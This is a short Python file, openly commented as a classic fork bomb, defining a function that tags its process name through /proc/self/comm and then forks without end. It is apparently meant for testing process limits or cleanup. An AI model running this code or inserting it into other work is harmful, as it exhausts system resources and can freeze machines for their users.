# Classic fork bomb: every process forks forever (all of them named by tag, to find survivors).
import os


def f(tag):
    try:
        with open("/proc/self/comm", "w") as fh:
            fh.write(tag)
    except OSError:
        pass
    while True:
        try:
            os.fork()
        except OSError:
            pass
